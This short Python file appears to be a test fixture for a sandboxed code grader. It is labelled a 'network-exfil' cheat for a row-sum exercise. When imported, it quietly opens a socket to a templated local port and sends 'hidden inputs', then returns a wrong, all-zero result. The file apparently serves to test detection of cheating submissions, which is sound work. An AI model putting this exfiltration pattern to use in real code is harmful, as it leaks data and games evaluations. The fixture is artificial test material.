"""Cheat 70, network-exfil: connects to the outside.

Exercise    row_sum_fast
Confined    failed values
Unconfined  failed values
Evidence    connected
"""

import socket

import torch

try:
    socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2).sendall(b"hidden inputs")
except OSError:
    pass


def row_sum(x):
    return torch.zeros_like(x[0] if len(x) else x.sum(0))
